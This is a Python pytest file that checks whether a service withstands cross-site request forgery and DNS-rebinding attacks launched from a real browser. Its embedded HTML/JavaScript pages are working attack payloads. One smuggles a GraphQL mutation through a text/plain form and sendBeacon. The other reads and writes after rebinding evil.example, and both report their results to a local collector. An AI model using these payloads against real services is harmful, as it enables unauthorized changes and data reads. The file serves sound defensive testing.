"""Pages of an attacker in a real browser, open beside the service, change and read nothing."""

import json
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.browser import browsing
from tests.postgres import free_port
from tests.service import Served, served
from tests.waiting import eventually

MUTATION = 'mutation { create_tenant(input: {name: "evil", slug: "evil"}) { id } }'
FOREIGN_PAGE = """<!doctype html>
<iframe name="sink"></iframe>
<form method="post" enctype="text/plain" target="sink"><input></form>
<script>
  const mutation = JSON.stringify({query: MUTATION});
  const flowRun = JSON.stringify({flow_name: "evil"});
  const attempts = {};
  function submitForm() {
    const form = document.forms[0];
    form.action = SERVICE + "/graphql";
    form.elements[0].name = `{"query": ${JSON.stringify(MUTATION)}, "operationName": null, "a": "`;
    form.elements[0].value = '"}';
    form.submit();
  }
  async function attempt(name, path, options) {
    try {
      const answer = await fetch(SERVICE + path, options);
      attempts[name] = answer.type === "opaque" ? "opaque" : `${answer.status}: ${await answer.text()}`;
    } catch (error) {
      attempts[name] = "blocked";
    }
  }
  async function attack() {
    const json = {"Content-Type": "application/json"};
    submitForm();
    for (const path of ["/", "/graphql"]) {
      await attempt(`plain ${path}`, path, {method: "POST", mode: "no-cors", body: mutation});
      await attempt(`blob ${path}`, path, {method: "POST", mode: "no-cors", body: new Blob([mutation])});
      await attempt(`json ${path}`, path, {method: "POST", headers: json, body: mutation});
      navigator.sendBeacon(SERVICE + path, mutation);
      navigator.sendBeacon(SERVICE + path, new Blob([mutation], {type: "application/json"}));
    }
    await attempt("plain REST", "/flow-runs", {method: "POST", mode: "no-cors", body: flowRun});
    await attempt("json REST", "/flow-runs", {method: "POST", headers: json, body: flowRun});
    await attempt("read", "/flow-runs", {});
    await attempt("delete", "/flow-runs/00000000-0000-0000-0000-000000000000", {method: "DELETE"});
    await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(attempts)});
  }
  attack();
</script>
"""
REBINDING_PAGE = """<!doctype html>
<script>
  const attempts = {};
  async function attempt(name, path, options) {
    const answer = await fetch(path, options);
    attempts[name] = `${answer.status}: ${await answer.text()}`;
  }
  async function attack() {
    for (;;) {
      try {
        const answer = await fetch("/health", {cache: "no-store"});
        if (answer.headers.get("X-Request-Id")) break;  // the service has taken the attacker's place
      } catch (error) {}
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
    const json = {"Content-Type": "application/json"};
    await attempt("read", "/flow-runs", {});
    await attempt("read GraphQL", "/graphql", {method: "POST", headers: json, body: '{"query": "{ tenant { id } }"}'});
    await attempt("write", "/flow-runs", {method: "POST", headers: json, body: '{"flow_name": "evil"}'});
    await attempt("write GraphQL", "/", {method: "POST", headers: json, body: JSON.stringify({query: MUTATION})});
    await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(attempts)});
  }
  attack();
</script>
"""


class Attacker:
    """A server of pages, to which they report."""

    def __init__(self, port: int) -> None:
        self.page = ""
        self.was_visited = False
        self.reports: list[dict[str, str]] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200 if self.path == "/" else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Connection", "close")
                self.end_headers()
                if self.path == "/":
                    self.wfile.write(attacker.page.encode())
                    attacker.was_visited = True

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                self.send_response(204)
                self.end_headers()
                attacker.reports.append(json.loads(body))

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)


@contextmanager
def attacking(port: int = 0) -> Iterator[Attacker]:
    """Runs an attacker's server until the block ends."""
    attacker = Attacker(port)
    thread = threading.Thread(target=attacker.server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield attacker
    finally:
        attacker.server.shutdown()
        attacker.server.server_close()
        thread.join()


def page_of(template: str, reports: Attacker, service: str = "") -> str:
    """A page that attacks a service and reports to an attacker."""
    constants = {
        "SERVICE": service,
        "MUTATION": MUTATION,
        "REPORT": f"http://127.0.0.1:{reports.server.server_port}/report",
    }
    return template.replace("<script>", f"<script>\n  const {{SERVICE, MUTATION, REPORT}} = {json.dumps(constants)};")


def count_requests(service: Served) -> int:
    """How many requests that may change something the service has logged."""
    return service.output().count('"method":"POST"')


@pytest.fixture
def url(tmp_path: Path) -> str:
    """The URL of a new SQLite file."""
    return f"sqlite:///{tmp_path / 'taskruns.db'}"


def test_page_of_another_origin_changes_and_reads_nothing(url: str, tmp_path: Path) -> None:
    with served(url, tmp_path) as service, attacking() as attacker, service.client() as http:
        attacker.page = page_of(FOREIGN_PAGE, attacker, service.url)
        with browsing(f"http://localhost:{attacker.server.server_port}/"):
            eventually(lambda: bool(attacker.reports))
            # A form, four requests of plain text over GraphQL and one over REST, and two beacons arrive.
            eventually(lambda: count_requests(service) >= 8)
        (attempts,) = attacker.reports
        assert set(attempts.values()) == {"blocked"}
        found = http.post("/graphql", json={"query": '{ tenant(where: {slug: {_eq: "evil"}}) { id } flow_run { id } }'})
        assert found.json() == {"data": {"tenant": [], "flow_run": []}}


def test_page_whose_name_leads_to_the_service_changes_and_reads_nothing(url: str, tmp_path: Path) -> None:
    port = free_port()
    with attacking() as reports, ExitStack() as until_rebound:
        attacker = until_rebound.enter_context(attacking(port))
        attacker.page = page_of(REBINDING_PAGE, reports)
        with browsing(f"http://evil.example:{port}/", evil_example="127.0.0.1"):
            eventually(lambda: attacker.was_visited)
            until_rebound.close()
            with served(url, tmp_path, port=port) as service, service.client() as http:
                eventually(lambda: bool(reports.reports))
                (attempts,) = reports.reports
                assert {name: answer[:3] for name, answer in attempts.items()} == {
                    "read": "421",
                    "read GraphQL": "421",
                    "write": "421",
                    "write GraphQL": "421",
                }
                assert http.get("/flow-runs").json()["items"] == []
